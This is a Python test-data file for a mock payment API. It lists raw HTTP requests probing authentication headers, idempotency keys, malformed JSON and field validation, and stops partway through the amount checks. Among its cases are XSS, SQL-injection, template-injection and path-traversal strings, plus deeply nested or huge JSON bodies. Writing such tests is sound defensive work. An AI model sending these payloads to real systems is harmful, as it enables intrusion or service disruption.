# ruff: noqa: RUF001 - characters that look like others are the point of many rows
"""Requests that must be refused, and their neighbors that must not be: one row each, by subject.

In the bytes of a row, `{api_key}` stands for an API key whose sandbox is empty, `{key}` for an idempotency
key that was never used, `{payment}` and `{others_payment}` for the ids of payments of this and of another API
key, `{payment_token}` for what follows `pay_` in the first of them, `{endpoint_token}` for what follows `we_`
in the id of a webhook endpoint. The server's clock says 2030-01-31T12:00:00Z.
"""

import copy
import gzip
import json
import re
import zlib
from collections.abc import Iterable, Mapping
from typing import Any, NamedTuple

from paymock.core.fields import EVENTS
from paymock.core.scenarios import SCENARIOS
from tests.support.client import ORDER

KIB = 1024
CHECKSUMMED = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"
API_KEY_LENGTH = 40
PAYMENTS, WEBHOOKS = "/v1/payments", "/v1/webhooks"

HOST = "Host: 127.0.0.1"
AUTHORIZATION = "Authorization: Bearer {api_key}"
IDEMPOTENCY = "Idempotency-Key: {key}"
JSON_TYPE = "Content-Type: application/json"
KEYED_JSON = (AUTHORIZATION, JSON_TYPE, IDEMPOTENCY)

REALM = 'Bearer realm="paymock"'
INVALID_TOKEN = f'{REALM}, error="invalid_token"'


class Case(NamedTuple):
    """A request and what must come of it.

    A refusal has the `code` and names the `fields`, no more and no fewer; `headers` are headers of the reply.
    `body` is the JSON value that was sent: a creation shows it. `private` must not be repeated.
    """

    name: str
    data: bytes
    status: int
    code: str = ""
    fields: tuple[str, ...] = ()
    headers: Mapping[str, str] = {}
    body: Any = None
    private: tuple[str, ...] = ()


def changed(path: str, value: Any = ...) -> Any:
    """A complete order, but for `value` at `path`, in the notation of `details`; without a value, but for
    what is there.
    """
    return with_member(copy.deepcopy(dict(ORDER)), path, value)


def with_member(body: Any, path: str, value: Any = ...) -> Any:
    """`body` itself, after the same change."""
    *steps, last = [int(step) if step.isdigit() else step for step in re.findall(r"\w+", path)]
    target = body
    for step in steps:
        target = target[step]
    if value is ...:
        del target[last]
    else:
        target[last] = value
    return body


def encoded(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


ORDER_BYTES = encoded(ORDER)


def head(*lines: str) -> bytes:
    """A request head of these lines."""
    return "".join(f"{line}\r\n" for line in (*lines, "")).encode()


def send(method: str, path: str, *lines: str, body: bytes | None = None) -> bytes:
    """A request whose body, if it has one, is announced by its length."""
    length = [] if body is None else [f"Content-Length: {len(body)}"]
    return head(f"{method} {path} HTTP/1.1", HOST, *lines, *length) + (body or b"")


def chunked(*chunks: bytes) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for chunk in (*chunks, b""))


def stream(body: bytes, *lines: str) -> bytes:
    """A payment creation whose body comes in chunks, without a length."""
    chunks = [body[start : start + 16 * KIB] for start in range(0, len(body), 16 * KIB)]
    return send("POST", PAYMENTS, *(lines or KEYED_JSON), "Transfer-Encoding: chunked") + chunked(*chunks)


def read(path: str, *lines: str) -> bytes:
    return send("GET", path, *(lines or (AUTHORIZATION,)))


def post(body: bytes, *lines: str, path: str = PAYMENTS) -> bytes:
    return send("POST", path, *(lines or KEYED_JSON), body=body)


def order(*lines: str) -> bytes:
    """An acceptable order with these header lines."""
    return post(ORDER_BYTES, *lines)


def accepted(name: str, body: Any, path: str = PAYMENTS) -> Case:
    return Case(name, post(encoded(body), path=path), 201, body=body)


def unacceptable(name: str, body: Any, *fields: str, path: str = PAYMENTS) -> Case:
    return Case(name, post(encoded(body), path=path), 422, "validation_failed", fields, body=body)


def accepted_values(path: str, values: Mapping[str, Any]) -> list[Case]:
    """One order for each value, which may stand at `path`."""
    return [accepted(f"{path}: {name}", changed(path, value)) for name, value in values.items()]


def unacceptable_values(path: str, values: Mapping[str, Any], *also: str) -> list[Case]:
    """One order for each value, which may not stand at `path`; `also` names what else that makes wrong."""
    return [
        unacceptable(f"{path}: {name}", changed(path, value), path, *also) for name, value in values.items()
    ]


def case_per(
    values: Mapping[str, bytes], status: int, code: str = "", headers: Mapping[str, str] | None = None
) -> list[Case]:
    """One case for each request, all with the same outcome."""
    return [Case(name, data, status, code, headers=headers or {}) for name, data in values.items()]


def _unauthenticated(name: str, *lines: str, challenge: str = "", secret: str = "") -> Case:
    headers = {"www-authenticate": challenge} if challenge else {}
    data = send("GET", "/v1/chains", *lines)
    return Case(name, data, 401, "unauthenticated", headers=headers, private=(secret,) if secret else ())


def _unknown_key(name: str, key: str) -> Case:
    line = f"Authorization: Bearer {key}"
    return _unauthenticated(name, line, challenge=INVALID_TOKEN, secret=key if key != "mk_test_" else "")


AUTH = [
    _unauthenticated("no header", challenge=REALM),
    _unauthenticated("empty header", "Authorization:", challenge=REALM),
    _unauthenticated("blank header", "Authorization:   ", challenge=REALM),
    _unauthenticated("scheme only", "Authorization: Bearer", challenge=REALM),
    _unauthenticated("scheme and a space", "Authorization: Bearer ", challenge=REALM),
    _unauthenticated("key without a scheme", "Authorization: {api_key}"),
    _unauthenticated("Basic", "Authorization: Basic dXNlcjpwYXNz", secret="dXNlcjpwYXNz"),
    _unauthenticated("Digest", 'Authorization: Digest username="{api_key}"'),
    _unauthenticated("scheme Token", "Authorization: Token {api_key}"),
    _unauthenticated("scheme BearerX", "Authorization: BearerX {api_key}"),
    _unauthenticated("colon after the scheme", "Authorization: Bearer: {api_key}"),
    _unauthenticated("tab after the scheme", "Authorization: Bearer\t{api_key}"),
    _unauthenticated("no space after the scheme", "Authorization: Bearer{api_key}"),
    _unauthenticated("comma after the key", "Authorization: Bearer {api_key},"),
    _unauthenticated("quoted key", 'Authorization: Bearer "{api_key}"'),
    _unauthenticated("bracketed key", "Authorization: Bearer <{api_key}>"),
    _unauthenticated("another word after the key", "Authorization: Bearer {api_key} x"),
    _unauthenticated("two keys in a list", "Authorization: Bearer {api_key}, Bearer {api_key}"),
    _unauthenticated("same header twice", AUTHORIZATION, AUTHORIZATION),
    _unauthenticated("two headers", AUTHORIZATION, "Authorization: Bearer mk_test_another"),
    _unauthenticated("key in a cookie", "Cookie: api_key={api_key}; session={api_key}", challenge=REALM),
    _unauthenticated("X-Api-Key", "X-Api-Key: {api_key}", challenge=REALM),
    _unauthenticated("Proxy-Authorization", "Proxy-Authorization: Bearer {api_key}", challenge=REALM),
    _unauthenticated("underscore in the name", "X_Authorization: Bearer {api_key}", challenge=REALM),
    _unknown_key("unknown key", "sk_live_4eC39HqLyjWDarjtT1zdp7dc"),
    _unknown_key("unknown kind of key", "mk_live_doesnotexist00000000"),
    _unknown_key("key with an empty name", "mk_test_"),
    _unknown_key("key with a name of 65", "mk_test_" + "a" * 65),
    _unknown_key("key with a dot", "mk_test_a.b"),
    _unknown_key("key with a percent sign", "mk_test_a%20b"),
    _unknown_key("key in upper case", "MK_TEST_SOMEBODY"),
    _unknown_key("null", "null"),
    _unknown_key("undefined", "undefined"),
    _unknown_key("key of 8 KiB", "a" * 8 * KIB),
    _unauthenticated("letter beyond ASCII", "Authorization: Bearer mk_test_schlüssel"),
    Case("key in the query", send("GET", "/v1/chains?api_key={api_key}&access_token={api_key}"), 401,
         "unauthenticated"),
    *case_per(
        {
            f"no key: {method} {path}": send(method, path, JSON_TYPE, IDEMPOTENCY, body=body)
            for method, path, body in (
                ("GET", "/v1/chains/bsc/assets", None),
                ("GET", "/v1/payments/{payment}", None),
                ("GET", "/v1/payments/{payment}/attempts", None),
                ("GET", WEBHOOKS, None),
                ("POST", PAYMENTS, ORDER_BYTES),
                ("POST", WEBHOOKS, b'{"url": "https://merchant.example/hooks"}'),
            )
        },
        401,
        "unauthenticated",
        {"www-authenticate": REALM},
    ),
    *case_per(
        {
            "before malformed JSON": post(b"{", JSON_TYPE, IDEMPOTENCY),
            "before unacceptable values": post(b"{}", JSON_TYPE, IDEMPOTENCY),
            "before a missing idempotency key": post(ORDER_BYTES, JSON_TYPE),
            "before a wrong media type": post(ORDER_BYTES, "Content-Type: text/plain", IDEMPOTENCY),
            "before an unknown scenario": order(JSON_TYPE, IDEMPOTENCY, "X-Mock-Scenario: x"),
            "before a body of 10 GiB": send("POST", PAYMENTS, JSON_TYPE, "Content-Length: 10737418240"),
            "before 128 KiB": post(b" " * 128 * KIB, JSON_TYPE, IDEMPOTENCY),
            "before 128 KiB in chunks": stream(b" " * 128 * KIB, JSON_TYPE, IDEMPOTENCY),
        },
        401,
        "unauthenticated",
    ),
    *case_per(
        {
            "NUL in the key": read("/v1/chains", AUTHORIZATION + "\0"),
            "DEL in the key": read("/v1/chains", AUTHORIZATION + "\x7f"),
        },
        400,
        "bad_request",
    ),
    *case_per(
        {
            "scheme in lower case": read("/v1/chains", "Authorization: bearer {api_key}"),
            "scheme in upper case": read("/v1/chains", "Authorization: BEARER {api_key}"),
            "two spaces after the scheme": read("/v1/chains", "Authorization: Bearer  {api_key}"),
            "spaces around": read("/v1/chains", "Authorization:   Bearer {api_key}  "),
            "tab after the key": read("/v1/chains", AUTHORIZATION + "\t"),
            "no space before the scheme": read("/v1/chains", "Authorization:Bearer {api_key}"),
            "header name in lower case": read("/v1/chains", "authorization: Bearer {api_key}"),
            "key with a name of 1": read("/v1/chains", "Authorization: Bearer mk_test_a"),
            "key with a name of 64": read("/v1/chains", "Authorization: Bearer mk_test_" + "Z" * 64),
            "key with every kind of character": read("/v1/chains", "Authorization: Bearer mk_test_aZ0_-"),
        },
        200,
    ),
    *case_per(
        {
            "another key's payment": read("/v1/payments/{others_payment}"),
            "attempts of another key's payment": read("/v1/payments/{others_payment}/attempts"),
        },
        404,
        "payment_not_found",
    ),
]  # fmt: skip


def _with_key(*values: str) -> bytes:
    return order(AUTHORIZATION, JSON_TYPE, *(f"Idempotency-Key:{value}" for value in values))


IDEMPOTENCY_KEY = [
    *case_per(
        {
            "no header": _with_key(),
            "empty": _with_key(""),
            "blank": _with_key("  \t "),
            "no header, webhooks": post(b"{}", AUTHORIZATION, JSON_TYPE, path=WEBHOOKS),
            "another name": order(AUTHORIZATION, JSON_TYPE, "X-Idempotency-Key: abcdefgh"),
            "underscore in the name": order(AUTHORIZATION, JSON_TYPE, "Idempotency_Key: abcdefgh"),
            "in the query": post(ORDER_BYTES, AUTHORIZATION, JSON_TYPE,
                                 path=f"{PAYMENTS}?Idempotency-Key=abcdefgh"),
            "in the trailer": send("POST", PAYMENTS, AUTHORIZATION, JSON_TYPE, "Transfer-Encoding: chunked",
                                   "Trailer: Idempotency-Key")
            + chunked(ORDER_BYTES).removesuffix(b"\r\n") + head("Idempotency-Key: abcdefgh"),
        },
        400,
        "idempotency_key_missing",
    ),
    *case_per(
        {
            "1 character": _with_key(" a"),
            "7 characters": _with_key(" abcdefg"),
            "7 characters and spaces": _with_key("   abcdefg   "),
            "129 characters": _with_key(" " + "k" * 129),
            "4 KiB": _with_key(" " + "k" * 4 * KIB),
            "space inside": _with_key(" abcd efgh"),
            "tab inside": _with_key(" abcd\tefgh"),
            "accented letter": _with_key(" café-12345"),
            "emoji": _with_key(" pay-💸-12345"),
            "no-break space at the end": _with_key(" abcdefgh\u00a0"),
            "zero-width space": _with_key(" abcd\u200befgh"),
            "twice, different": _with_key(" abcdefgh", " ijklmnop"),
            "twice, the same": _with_key(" abcdefgh", " abcdefgh"),
            "twice, one empty": _with_key(" abcdefgh", ""),
            "too short, webhooks": post(b"{}", AUTHORIZATION, JSON_TYPE, "Idempotency-Key: x", path=WEBHOOKS),
        },
        400,
        "idempotency_key_invalid",
    ),
    *case_per(
        {
            "Latin-1 letter": _with_key(" caf?-12345").replace(b"caf?", b"caf\xe9"),
            "no-break space of Latin-1": _with_key(" abcdefgh?").replace(b"?", b"\xa0"),
        },
        400,
        "idempotency_key_invalid",
    ),
    *case_per(
        {
            "NUL": _with_key(" abcd\0efgh"),
            "DEL": _with_key(" abcdefgh\x7f"),
            "escape": _with_key(" abcd\x1befgh"),
            "vertical tab": _with_key(" abcd\vefgh"),
            "form feed": _with_key(" abcd\fefgh"),
            "carriage return": _with_key(" abcd\refgh"),
        },
        400,
        "bad_request",
    ),
    *case_per(
        {
            "8 characters": _with_key(" abcdefgh"),
            "128 characters": _with_key(" " + "k" * 128),
            "every visible character": _with_key(" " + "".join(map(chr, range(0x21, 0x7F)))),
            "spaces around": _with_key("  \t abcdefgh \t "),
            "no space before": _with_key("abcdefgh"),
            "quoted": _with_key(' "abcdefgh"'),
            "comma inside": _with_key(" abcdefgh,ijklmnop"),
            "header name in mixed case": order(AUTHORIZATION, JSON_TYPE, "iDEMPOTENCY-kEY: abcdefgh"),
        },
        201,
    ),
    Case("not looked at on GET", read("/v1/chains", AUTHORIZATION, "Idempotency-Key: x"), 200),
]  # fmt: skip


def _with_scenario(*values: str, name: str = "X-Mock-Scenario") -> bytes:
    return order(*KEYED_JSON, *(f"{name}:{value}" for value in values))


SCENARIO = [
    *case_per(
        {
            "empty": _with_scenario(""),
            "unknown": _with_scenario(" refund_everything"),
            "upper case": _with_scenario(" HAPPY_PATH"),
            "capital": _with_scenario(" Happy_path"),
            "hyphen": _with_scenario(" happy-path"),
            "space inside": _with_scenario(" happy path"),
            "missing letter": _with_scenario(" happy_pat"),
            "one letter more": _with_scenario(" happy_paths"),
            "quoted": _with_scenario(' "happy_path"'),
            "list": _with_scenario(" happy_path,manual_review"),
            "parameter": _with_scenario(" happy_path;speed=2"),
            "status that is no scenario": _with_scenario(" completed"),
            "twice, different": _with_scenario(" happy_path", " manual_review"),
            "twice, the same": _with_scenario(" happy_path", " happy_path"),
            "twice, one empty": _with_scenario(" happy_path", ""),
            "None": _with_scenario(" None"),
            "attribute of an object": _with_scenario(" __class__"),
            "path": _with_scenario(" ../happy_path"),
            "full-width letters": _with_scenario(" ｈａｐｐｙ_ｐａｔｈ"),
            "no-break space at the end": _with_scenario(" happy_path\u00a0"),
            "percent-encoded": _with_scenario(" happy%5Fpath"),
            "2 KiB": _with_scenario(" " + "x" * 2 * KIB),
        },
        400,
        "invalid_scenario",
    ),
    Case("NUL", _with_scenario(" happy_path\0"), 400, "bad_request"),
    *case_per({name: _with_scenario(f" {name}") for name in SCENARIOS}, 201),
    *case_per(
        {
            "no header": _with_scenario(),
            "spaces around": _with_scenario("  \t happy_path \t "),
            "header name in lower case": _with_scenario(" happy_path", name="x-mock-scenario"),
            "not looked at for webhooks": post(b'{"url": "https://merchant.example/"}', *KEYED_JSON,
                                               "X-Mock-Scenario: x", path=WEBHOOKS),
        },
        201,
    ),
    Case("not looked at on GET", read("/v1/chains", AUTHORIZATION, "X-Mock-Scenario: x"), 200),
]  # fmt: skip


def _metadata(value: bytes) -> bytes:
    """An order whose metadata has this one value."""
    return encoded(changed("metadata", {"x": "?"})).replace(b'"?"', value)


def _text(content: bytes) -> bytes:
    """An order whose metadata has this one string, as it would stand between its quotation marks."""
    return _metadata(b'"' + content + b'"')


def _nested(levels: int) -> bytes:
    """An order with so many levels of nesting in all: two of its own, and arrays in its metadata."""
    arrays = levels - 2
    return _metadata(b"[" * arrays + b"]" * arrays)


_MEMBER = b'"order_id": "order-1001"'

NO_JSON = {
    "empty": b"",
    "white space": b" \r\n\t ",
    "opening brace": b"{",
    "closing brace": b"}",
    "quotation mark": b'"',
    "bare word": b"order",
    "no outer braces": ORDER_BYTES[1:-1],
    "cut off": ORDER_BYTES[:-1],
    "cut off in a string": ORDER_BYTES[: ORDER_BYTES.index(b"1001")],
    "comma at the end of an object": ORDER_BYTES[:-1] + b",}",
    "comma at the end of an array": ORDER_BYTES.replace(b"}]", b"},]"),
    "comma at the start": b"{," + ORDER_BYTES[1:],
    "two commas": ORDER_BYTES.replace(b", ", b",, ", 1),
    "no comma": ORDER_BYTES.replace(b", ", b" ", 1),
    "no colon": ORDER_BYTES.replace(b":", b" ", 1),
    "equals sign": ORDER_BYTES.replace(b":", b"=", 1),
    "single quotes": ORDER_BYTES.replace(b'"', b"'"),
    "member name without quotes": ORDER_BYTES.replace(b'"order_id"', b"order_id"),
    "number as member name": b"{1: 2}",
    "comment of C": b"/* order */" + ORDER_BYTES,
    "comment of C++": ORDER_BYTES + b"// order",
    "comment of Python": ORDER_BYTES + b"# order",
    "letter after the end": ORDER_BYTES + b"x",
    "brace after the end": ORDER_BYTES + b"}",
    "NUL after the end": ORDER_BYTES + b"\0",
    "two documents": ORDER_BYTES + ORDER_BYTES,
    "two lines of JSON": ORDER_BYTES + b"\n" + ORDER_BYTES,
    "record separator": b"\x1e" + ORDER_BYTES,
    "function call": b"callback(" + ORDER_BYTES + b")",
    "protective prefix": b")]}',\n" + ORDER_BYTES,
    "form": b"order_id=order-1001&metadata=",
    "XML": b"<order/>",
    "YAML": b"order_id: order-1001\n",
    "MessagePack": b"\x81\xa8order_id\xa1x",
    "form feed as white space": b"\f" + ORDER_BYTES,
    "vertical tab as white space": b"\v" + ORDER_BYTES,
    "no-break space as white space": "\u00a0".encode() + ORDER_BYTES,
    "True": _metadata(b"True"),
    "None": _metadata(b"None"),
    "undefined": _metadata(b"undefined"),
    "NULL": _metadata(b"NULL"),
    "NaN": _metadata(b"NaN"),
    "NaN in an amount": ORDER_BYTES.replace(b'"1000000000000000000"', b"NaN"),
    "Infinity": _metadata(b"Infinity"),
    "negative Infinity": _metadata(b"-Infinity"),
    "nan": _metadata(b"nan"),
    "inf": _metadata(b"inf"),
    "number with a leading zero": _metadata(b"01"),
    "negative number with a leading zero": _metadata(b"-01"),
    "number with a plus sign": _metadata(b"+1"),
    "hexadecimal number": _metadata(b"0x1"),
    "octal number": _metadata(b"0o7"),
    "binary number": _metadata(b"0b1"),
    "number with an underscore": _metadata(b"1_000"),
    "number with a thousands separator": _metadata(b"1,000"),
    "no digit before the point": _metadata(b".5"),
    "no digit after the point": _metadata(b"5."),
    "no digit in the exponent": _metadata(b"1e"),
    "no digit after the exponent's sign": _metadata(b"1e+"),
    "two points": _metadata(b"1.2.3"),
    "minus sign only": _metadata(b"-"),
    "two minus signs": _metadata(b"--1"),
    "minus sign of typographers": _metadata("\u22121".encode()),
    "full-width digit": _metadata("１".encode()),
    "suffix n": _metadata(b"1n"),
    "1e400": _metadata(b"1e400"),
    "-1e400": _metadata(b"-1e400"),
    "1e999999999": _metadata(b"1e999999999"),
    "2e308": _metadata(b"2e308"),
    "integer beyond a double": _metadata(b"2" + b"0" * 308),
    "negative integer beyond a double": _metadata(b"-2" + b"0" * 308),
    "integer of 310 digits": _metadata(b"1" + b"0" * 309),
    "integer of 5,000 digits": _metadata(b"9" * 5000),
    "integer of 60,000 digits": _metadata(b"9" * 60_000),
    "integer of 5,000 digits as amount": ORDER_BYTES.replace(b'"1000000000000000000"', b"9" * 5000),
    "byte order mark": b"\xef\xbb\xbf" + ORDER_BYTES,
    "byte order mark at the end": ORDER_BYTES + b"\xef\xbb\xbf",
    "UTF-16 with a byte order mark": json.dumps(ORDER).encode("utf-16"),
    "UTF-16, little end first": json.dumps(ORDER).encode("utf-16-le"),
    "UTF-16, big end first": json.dumps(ORDER).encode("utf-16-be"),
    "UTF-32 with a byte order mark": json.dumps(ORDER).encode("utf-32"),
    "UTF-32, little end first": json.dumps(ORDER).encode("utf-32-le"),
    "UTF-7": ORDER_BYTES.replace(b"{", b"+AHs-"),
    "Latin-1": _text(b"caf\xe9"),
    "byte 255": _text(b"\xff"),
    "continuation byte alone": _text(b"\x80"),
    "character cut off": _text(b"\xe2\x82"),
    "overlong encoding of a slash": _text(b"\xc0\xaf"),
    "overlong encoding of NUL": _text(b"\xc0\x80"),
    "overlong encoding of three bytes": _text(b"\xe0\x80\xaf"),
    "CESU-8": _text(b"\xed\xa0\xbd\xed\xb8\x80"),
    "encoded high surrogate": _text(b"\xed\xa0\xbd"),
    "encoded low surrogate": _text(b"\xed\xb8\x80"),
    "beyond the last code point": _text(b"\xf4\x90\x80\x80"),
    "encoding of five bytes": _text(b"\xf8\x88\x80\x80\x80"),
    "not UTF-8 in a member name": ORDER_BYTES.replace(b"customer_id", b"customer\xff"),
    "line feed in a string": _text(b"a\nb"),
    "carriage return in a string": _text(b"a\rb"),
    "tab in a string": _text(b"a\tb"),
    "NUL in a string": _text(b"a\0b"),
    "last control character in a string": _text(b"a\x1fb"),
    "line feed in a member name": ORDER_BYTES.replace(b"customer_id", b"customer\nid"),
    "escape of x": _text(rb"\x41"),
    "escape of a single quote": _text(rb"\'"),
    "escape of zero": _text(rb"\0"),
    "escape of a": _text(rb"\a"),
    "escape of a line feed": _text(b"\\\n"),
    "escape cut off by the end": _text(b"\\"),
    "escape of two digits": _text(rb"\u41"),
    "escape in braces": _text(rb"\u{41}"),
    "escape of capital U": _text(rb"\U0001F600"),
    "escape with another letter": _text(rb"\u00g0"),
    "escape with a plus sign": _text(rb"\u+041"),
    "escape with an underscore": _text(rb"\u0_41"),
    "escape with a space": _text(rb"\u 041"),
    "escaped high surrogate": _text(rb"\ud83d"),
    "escaped low surrogate": _text(rb"\ude00"),
    "escaped surrogates in the wrong order": _text(rb"\ude00\ud83d"),
    "two escaped high surrogates": _text(rb"\ud83d\ud83d"),
    "half of a pair escaped": _text(rb"\ud83dx"),
    "escaped surrogate in capitals": _text(rb"\uD83D"),
    "escaped surrogate in a member name": ORDER_BYTES.replace(b"customer_id", rb"\ud83d"),
    "escaped surrogate in the order id": ORDER_BYTES.replace(b"order-1001", rb"\udfff"),
    "escaped surrogate in an unknown member": b'{"\\ud800": 1}',
    "duplicate member": b"{" + _MEMBER + b", " + ORDER_BYTES[1:],
    "duplicate member with another value": b'{"order_id": 5, ' + ORDER_BYTES[1:],
    "duplicate member by an escape": b'{"\\u006frder_id": "order-1001", ' + ORDER_BYTES[1:],
    "duplicate member that is unknown": b'{"x": 1, "x": 1, ' + ORDER_BYTES[1:],
    "duplicate member of receive": ORDER_BYTES.replace(b'"amount"', b'"amount": "1", "amount"'),
    "duplicate member of receive by an escape": ORDER_BYTES.replace(
        b'"amount"', b'"\\u0061mount": "1", "amount"'
    ),
    "duplicate member of pay_with": ORDER_BYTES.replace(
        b'[{"chain"', b'[{"chain": "bsc", "chain"'
    ),
    "duplicate member of metadata": _metadata(b'1, "x": 2'),
    "duplicate member of metadata by an escape": _metadata(rb'1, "\u0078": 2'),
    "duplicate member deep in metadata": _metadata(b'[{"a": {"k": 1, "k": 1}}]'),
    "duplicate empty member": b'{"": 1, "": 1}',
    "33 levels": _nested(33),
    "33 levels of arrays": b"[" * 33 + b"]" * 33,
    "33 levels of objects": b'{"a":' * 33 + b"1" + b"}" * 33,
    "1,100 levels": _nested(1100),
    "20,000 levels of arrays": _nested(20_000),
    "10,000 levels of objects": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "60,000 brackets never closed": b"[" * 60_000,
    "60,000 brackets closed": b"]" * 60_000,
    "10,000 braces never closed": b'{"a":' * 10_000,
}  # fmt: skip
"""Bodies that are not one UTF-8 JSON document, or that decoders read differently."""

JSON_SYNTAX = [
    *case_per({name: post(body) for name, body in NO_JSON.items()}, 400, "invalid_json"),
    *case_per(
        {
            "no body": send("POST", PAYMENTS, *KEYED_JSON),
            "no body, by an empty chunk": stream(b""),
            "cut off, webhooks": post(b'{"url": "https://merchant.example/"', path=WEBHOOKS),
            "duplicate member, webhooks": post(b'{"url": "https://a.example/", "url": "https://b.example/"}',
                                               path=WEBHOOKS),
        },
        400,
        "invalid_json",
    ),
    *case_per(
        {
            "white space around": post(b" \r\n\t" + ORDER_BYTES + b" \r\n\t"),
            "white space inside": post(json.dumps(ORDER, indent=4).replace("\n", "\r\n\t").encode()),
            "no white space": post(json.dumps(ORDER, separators=(",", ":")).encode()),
            "members in another order": post(encoded(dict(reversed(list(ORDER.items()))))),
            "escaped letters": post(ORDER_BYTES.replace(b"order", rb"\u006f\u0072der")),
            "every short escape": post(_text(rb"\"\\\/\b\f\n\r\t")),
            "escaped surrogate pair": post(_text(rb"\ud83d\ude00")),
            "escaped surrogate pair in capitals": post(_text(rb"\uD83D\uDE00")),
            "backslash before what looks like a surrogate": post(_text(rb"\\ud83d")),
            "DEL in a string": post(_text(b"a\x7fb")),
            "line separator in a string": post(_text("a\u2028b".encode())),
            "byte order mark in a string": post(_text("\ufeff".encode())),
            "noncharacter in a string": post(_text("\uffff".encode())),
            "last code point in a string": post(_text("\U0010ffff".encode())),
            "negative zero": post(_metadata(b"-0")),
            "negative zero with a point": post(_metadata(b"-0.0")),
            "largest double": post(_metadata(b"1.7976931348623157e308")),
            "smallest double": post(_metadata(b"5e-324")),
            "exponent in capitals with a sign": post(_metadata(b"1.5E+3")),
            "40 brackets in a string": post(_text(b"[{" * 20)),
            "40 arrays side by side": post(_metadata(b"[" + b",".join([b"[]"] * 40) + b"]")),
        },
        201,
    ),
    Case("32 levels", post(_nested(32)), 422, "validation_failed", ("metadata",)),
]  # fmt: skip


STRINGS = (
    "order_id", "receive.chain", "receive.asset", "receive.amount", "receive.address", "settlement.mode",
    "pay_with[0].chain", "pay_with[0].asset", "refund_to.chain", "refund_to.address",
)  # fmt: skip
OBJECTS = ("receive", "settlement", "pay_with[0]")
OPTIONAL = ("refund_to", "expires_at", "metadata")

_NUMBERS = {"zero": 0, "number": 56, "fraction": 1.5, "negative number": -1, "true": True, "false": False}
NO_STRING = {**_NUMBERS, "array": [], "array of strings": ["1"], "object": {}}
NO_OBJECT = {**_NUMBERS, "string": "x", "empty string": "", "array": [], "array of an object": [{}]}
NO_ARRAY = {**_NUMBERS, "string": "bsc", "empty string": "", "object": {"chain": "bsc", "asset": "USDT"}}
NO_BODY = {**_NUMBERS, "null": None, "string": "x", "array": [], "array of orders": [ORDER],
           "order in a string": json.dumps(ORDER)}  # fmt: skip

TYPES = [
    *(unacceptable(f"{path}: missing", changed(path), path)
      for path in (*STRINGS, "receive", "settlement", "pay_with")),
    *(unacceptable(f"{path}: null", changed(path, None), path) for path in (*STRINGS, *OBJECTS, "pay_with")),
    *(case for path in (*STRINGS, "expires_at") for case in unacceptable_values(path, NO_STRING)),
    *(case for path in (*OBJECTS, "refund_to", "metadata") for case in unacceptable_values(path, NO_OBJECT)),
    *unacceptable_values("pay_with", NO_ARRAY),
    *(unacceptable(f"body: {name}", body, "body") for name, body in NO_BODY.items()),
    unacceptable("body: 32 levels of arrays", json.loads("[" * 32 + "]" * 32), "body"),
    *(accepted(f"{path}: missing", changed(path)) for path in OPTIONAL),
    *(accepted(f"{path}: null", changed(path, None)) for path in OPTIONAL),
    accepted("nothing optional", {name: ORDER[name] for name in ORDER if name not in OPTIONAL}),
    unacceptable("body: empty object", {}, "order_id", "receive", "settlement", "pay_with"),
    unacceptable("receive: empty object", changed("receive", {}),
                 "receive.chain", "receive.asset", "receive.amount", "receive.address"),
    unacceptable("refund_to: empty object", changed("refund_to", {}), "refund_to.chain", "refund_to.address"),
    *(unacceptable(f"unknown field {path}", changed(path, "x"), path)
      for path in ("orderId", "Order_id", "amount", "id", "status", "webhook_url", "scenario", "__proto__",
                   "receive.memo", "receive.Amount", "receive.address_", "settlement.method",
                   "pay_with[0].amount", "refund_to.asset")),
    unacceptable("unknown field without a name", {**ORDER, "": 1}, ""),
    unacceptable("unknown field with a dot", {**ORDER, "receive.memo": 1}, "receive.memo"),
    unacceptable("unknown field that is null", changed("memo", None), "memo"),
    unacceptable("known field in the wrong place", {**ORDER, "chain": "bsc", "mode": "x"}, "chain", "mode"),
    unacceptable("typo", with_member(changed("receive.adress", CHECKSUMMED), "receive.address"),
                 "receive.adress", "receive.address"),
    unacceptable(
        "everything wrong",
        {
            "order_id": "",
            "receive": {"chain": "bsc", "asset": "DOGE", "amount": "1.5", "address": "0x1234"},
            "settlement": {"mode": "swap"},
            "pay_with": [{"chain": "solana", "asset": "DOGE"}],
            "refund_to": {"chain": "solana"},
            "expires_at": "tomorrow",
            "metadata": {"": "x"},
            "memo": "x",
        },
        "order_id", "receive.asset", "receive.amount", "receive.address", "settlement.mode",
        "pay_with[0].chain", "refund_to.chain", "refund_to.address", "expires_at", "metadata", "memo",
    ),
    *unacceptable_values(
        "order_id",
        {
            "empty": "",
            "129 characters": "x" * 129,
            "10,000 characters": "x" * 10_000,
            "NUL": "a\0b",
            "NUL only": "\0",
            "line feed": "a\nb",
            "line feed at the end": "order-1001\n",
            "carriage return": "a\rb",
            "tab": "a\tb",
            "escape": "\x1b[31m",
            "last C0 control character": "a\x1fb",
            "DEL": "a\x7fb",
            "first C1 control character": "a\x80b",
            "next line": "a\x85b",
            "last C1 control character": "a\x9fb",
        },
    ),
    *accepted_values(
        "order_id",
        {
            "1 character": "x",
            "128 characters": "x" * 128,
            "128 emoji": "💸" * 128,
            "right to left": "\u202eהזמנה",
            "combining characters": "e\u0301",
            "slashes": "../../orders/1?x=1#y",
            "markup": "<script>alert(1)</script>",
            "SQL": "'; DROP TABLE payments; --",
            "template": "{{7*7}}${7*7}",
            "first character after the controls": "\u00a0",
        },
    ),
]  # fmt: skip


MAX_DUE = 2**256 - 1
MAX_AMOUNT = MAX_DUE * 100 // 101
"""The largest amount whose due, with a fee of a hundredth, fits in 256 bits."""

AMOUNTS = [
    *unacceptable_values(
        "receive.amount",
        {
            "empty": "",
            "space": " ",
            "zero": "0",
            "zeros": "000",
            "leading zero": "01",
            "negative": "-1",
            "minus zero": "-0",
            "minus sign only": "-",
            "minus sign of typographers": "\u22121",
            "plus sign": "+1",
            "decimal": "1.5",
            "decimal zero": "1.0",
            "trailing point": "1.",
            "leading point": ".5",
            "decimal comma": "1,5",
            "thousands separators": "1,000,000",
            "underscore": "1_000",
            "apostrophe": "1'000",
            "space inside": "1 000",
            "leading space": " 1",
            "trailing space": "1 ",
            "trailing line feed": "1\n",
            "leading line feed": "\n1",
            "trailing tab": "1\t",
            "trailing NUL": "1\0",
            "no-break space": "1\u00a0",
            "zero-width space": "\u200b1",
            "byte order mark": "\ufeff1",
            "two lines": "1\n2",
            "exponent": "1e18",
